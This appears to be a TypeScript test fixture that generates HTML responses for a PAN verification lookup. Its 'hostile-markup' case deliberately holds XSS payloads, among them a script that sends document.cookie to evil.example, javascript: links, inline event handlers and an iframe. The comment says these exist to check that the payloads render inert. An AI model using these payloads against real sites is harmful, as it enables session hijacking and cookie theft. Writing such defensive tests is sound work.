// The HTML fragments getLeadInfo answers about a lead's PAN, one of them deliberately hostile.
import type { SeedLead } from './seed/index.ts';

function escape(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

function table(lead: SeedLead, status: string): string {
  return (
    '<table><tbody>' +
    `<tr><th>Name as per PAN</th><td>${escape(`${lead.first_name} ${lead.sur_name}`.toUpperCase())}</td></tr>` +
    `<tr><th>PAN</th><td>${escape(lead.pan)}</td></tr>` +
    `<tr><th>Status</th><td>${status}</td></tr>` +
    '</tbody></table>'
  );
}

export function leadInfoHtml(lead: SeedLead | undefined, pan: string): string {
  if (!lead) return '<div class="alert alert-danger"><p>No record found for this link.</p></div>';
  if (pan.trim().toUpperCase() !== lead.pan) {
    return '<div class="alert alert-warning"><p>The PAN entered does <b>not match</b> our records.</p></div>';
  }
  switch (lead.panCheck) {
    case 'verified':
      return `<div class="alert alert-success"><h4>PAN verified</h4>${table(lead, '<b>Valid</b>')}</div>`;
    case 'pending':
      return `<div class="alert alert-info"><h4>Verification pending</h4><p>We are checking your PAN with the Income Tax Department. Please try again in a few minutes.</p>${table(lead, '<i>Pending</i>')}</div>`;
    case 'rejected':
      return `<div class="alert alert-danger"><h4>PAN could not be verified</h4><p>The name on the PAN does not match the application.</p>${table(lead, '<b>Name mismatch</b>')}</div>`;
    case 'hostile-markup':
      // What a compromised or careless upstream could send: every piece must arrive inert in the browser.
      return (
        `<div class="alert alert-success" style="background:url(javascript:alert(1))" onmouseover="alert(2)"><h4>PAN verified</h4>` +
        `<script>fetch('https://evil.example/steal?c='+document.cookie)</script>` +
        `<img src="x" onerror="alert(3)">` +
        `<p>Details: <a href="javascript:alert(4)">view your record</a> or <a href="https://www.incometax.gov.in/" onclick="alert(5)">the Income Tax portal</a>.</p>` +
        `<iframe src="https://evil.example/frame">frame fallback</iframe>` +
        `<style>body{display:none}</style>` +
        `${table(lead, '<b>Valid</b>')}</div>`
      );
  }
}
